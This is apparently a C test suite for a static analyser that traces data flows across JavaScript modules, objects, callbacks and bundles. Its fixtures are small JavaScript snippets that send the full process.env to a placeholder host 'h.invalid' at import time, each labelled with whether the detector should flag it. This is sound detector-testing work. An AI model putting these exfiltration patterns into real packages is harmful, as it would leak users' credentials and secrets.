/* SPDX-License-Identifier: Apache-2.0 */
/* JavaScript files in, flows of a package out: modules, exports, callbacks, objects. */
#include "capabilities/ids.h"
#include "engine/join/join.h"
#include "tap.h"

enum { FILES = 3 };

typedef struct row {
    const char *file[FILES]; /* index.js, lib/a.js, node_modules/inner/m.js */
    bool flows;              /* from the environment to HTTP, at import, followed all the way */
} row;

static bool env_is_sent(const row *t)
{
    static const char *const paths[FILES] = {"index.js", "lib/a.js", "node_modules/inner/m.js"};
    tw_arena *a = tw_arena_new(0);
    tw_limits lim = tw_limits_default();
    tw_coverage coverage;
    tw_member members[FILES];
    tw_str modules[FILES] = {{0}};
    uint8_t roles[FILES];
    tw_unit units[FILES];
    tw_ir ir[FILES];
    tw_record records[FILES];
    tw_package p = {.arena = a, .members = members, .module = modules, .role = roles, .name = TW_S("outer")};
    tw_coverage_init(&coverage, a);
    for (uint32_t i = 0; i < FILES && t->file[i]; i++) {
        members[i] = (tw_member){.index = i, .path = tw_str_c(paths[i])};
        roles[i] = TW_ROLE_CODE;
        tw_front_javascript.lower(a, tw_str_c(t->file[i]), &lim, &ir[i]);
        tw_evaluate(a, &ir[i], &lim, &records[i]);
        units[i] = (tw_unit){.member = i, .parent = TW_NONE, .layer = TW_NONE, .record = &records[i]};
        p.n_members = i + 1;
        if (i != 1) TW_PUSH(a, p.roots, ((tw_root){i, TW_S(""), TW_TRIGGER_IMPORT, TW_S("main")}));
    }
    tw_join j = {.arena = a,
                 .package = &p,
                 .units = units,
                 .n_units = p.n_members,
                 .coverage = &coverage,
                 .limits = &lim};
    tw_join_run(&j);
    bool found = false;
    for (uint32_t i = 0; i < j.flows.n; i++) {
        const tw_cap_use *from = &j.uses.v[j.flows.v[i].from], *to = &j.uses.v[j.flows.v[i].to];
        found |= from->cap == TW_CAP_CRED_ENV_ALL && to->cap == TW_CAP_NET_HTTP &&
                 from->trigger == TW_TRIGGER_IMPORT && to->trigger == TW_TRIGGER_IMPORT &&
                 j.flows.v[i].confidence != TW_CONF_GUESSED;
    }
    tw_arena_free(a);
    return found;
}

static void check(const row *rows, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        bool got = env_is_sent(&rows[i]);
        CHECK(got == rows[i].flows);
        if (got != rows[i].flows) fprintf(stderr, "%s\n", rows[i].file[0]);
    }
}
#define CHECK_ROWS(rows) check(rows, TW_COUNT(rows))
#define SEND "require('https').request({hostname: 'h.invalid'}).end"

TEST(modules)
{
    static const row rows[] = {
        {{"require('./lib/a').send(process.env);", "exports.send = d => " SEND "(d);"}, true},
        {{"require('./lib/a')(process.env);", "module.exports = function (d) { " SEND "(d); };"}, true},
        {{"import send from './lib/a.js'; send(process.env);",
          "export default function (d) { " SEND "(d); }"},
         true},
        {{"import {go} from './lib/a.js'; go(process.env);", "const go = d => " SEND "(d); export {go};"},
         true},
        {{"require('./lib/a').send(1);", "exports.send = d => " SEND "(d); exports.e = process.env;"}, false},
        {{"exports.grab = () => process.env; exports.send = d => " SEND "(d); exports.send(exports.grab());"},
         true},
        {{"require('inner').send(process.env);", "", "exports.send = d => " SEND "(d);"}, true},
        {{"require('other').send(1);", "", "exports.send = d => " SEND "(d);"}, false},
    };
    CHECK_ROWS(rows);
}

TEST(objects)
{
    static const row rows[] = {
        {{"const o = {send(d) { " SEND "(d); }}; o.send(process.env);"}, true},
        {{"function C() {} C.prototype.send = function (d) { " SEND "(d); }; new C().send(process.env);"},
         true},
        {{"function C() {} C.prototype = {send: function (d) { " SEND
          "(d); }}; var c = new C(); c.send(process.env);"},
         true},
        {{"class C { get() { this.d = process.env; return this; } send() { " SEND
          "(this.d); } } new C().get().send();"},
         true},
        {{"const o = {send(d) { " SEND "(d); }}; o.other(process.env);"}, false},
        {{"const mk = h => d => " SEND "(d); const s = mk(1); s(process.env);"}, true},
        {{"function send(d = process.env) { " SEND "(d); } send();"}, true},
    };
    CHECK_ROWS(rows);
}

TEST(callbacks)
{
    static const row rows[] = {
        {{"const bus = new (require('events'))(); bus.on('x', d => " SEND
          "(d)); bus.emit('x', process.env);"},
         true},
        {{"const bus = new (require('events'))(); bus.on('y', d => 1); bus.emit('x', process.env);"}, false},
        {{"[process.env].map(d => " SEND "(d));"}, true},
        {{"(function (d) { " SEND "(d); }).call(null, process.env);"}, true},
        {{"new Promise(ok => ok(process.env)).then(d => " SEND "(d));"}, true},
        {{"help(function step(_) { switch (_.label) { case 0: return [4, process.env]; case 1: " SEND
          "(_.sent()); } });"},
         true},
    };
    CHECK_ROWS(rows);
}

TEST(bundles)
{
    static const row rows[] = {
        {{"var m = {1: (e, t, n) => { n(2).send(n(3)); }, 2: (e, t) => { t.send = d => " SEND
          "(d); }, 3: e => { "
          "e.exports = process.env; }}; function n(i) { var o = {exports: {}}; m[i](o, o.exports, n); return "
          "o.exports; "
          "} n(1);"},
         true},
        {{"var m = {1: (e, t, n) => { n(3); }, 2: (e, t) => { t.send = d => " SEND
          "(d); }, 3: e => { e.exports = "
          "process.env; }}; function n(i) { var o = {exports: {}}; m[i](o, o.exports, n); return o.exports; "
          "} n(1);"},
         false},
    };
    CHECK_ROWS(rows);
}

TESTS_MAIN()
